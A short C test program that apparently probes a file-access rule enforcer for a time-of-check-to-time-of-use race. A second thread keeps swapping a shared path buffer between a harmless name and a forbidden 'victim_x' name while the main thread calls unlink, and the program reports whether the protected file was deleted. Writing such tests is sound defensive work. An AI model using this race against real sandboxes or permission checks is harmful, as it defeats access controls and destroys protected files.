/*
 * Tries to get a file deleted whose name a rule forbids, by changing the name between the moment at which it is
 * looked at and the moment at which it is used:
 *
 *   swap ROUNDS DIRECTORY    deletes DIRECTORY/harmless, which a second thread turns into DIRECTORY/victim_x and back
 *
 * Exit status 0; 1 if the victim is gone.
 */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char name[4096];
static const char *names[2] = {"harmless", "victim_x"};
static volatile int stop;

static void *swap(void *unused) {
  char *last = strrchr(name, '/') + 1;
  for (unsigned i = 0; !stop; i++) memcpy(last, names[i & 1], 8);
  return unused;
}

int main(int argc, char **argv) {
  char harmless[4096], victim[4096];
  pthread_t thread;
  if (argc != 3) return 2;
  snprintf(harmless, sizeof harmless, "%s/%s", argv[2], names[0]);
  snprintf(victim, sizeof victim, "%s/%s", argv[2], names[1]);
  strcpy(name, harmless);
  close(open(victim, O_CREAT | O_WRONLY, 0600));
  if (pthread_create(&thread, 0, swap, 0) != 0) return 3;
  long deleted = 0;
  for (long i = atol(argv[1]); i > 0 && access(victim, F_OK) == 0; i--) {
    close(open(harmless, O_CREAT | O_WRONLY, 0600));
    deleted += unlink(name) == 0;
  }
  stop = 1;
  pthread_join(thread, 0);
  printf("%ld deleted\n", deleted);
  return access(victim, F_OK) == 0 ? 0 : 1;
}
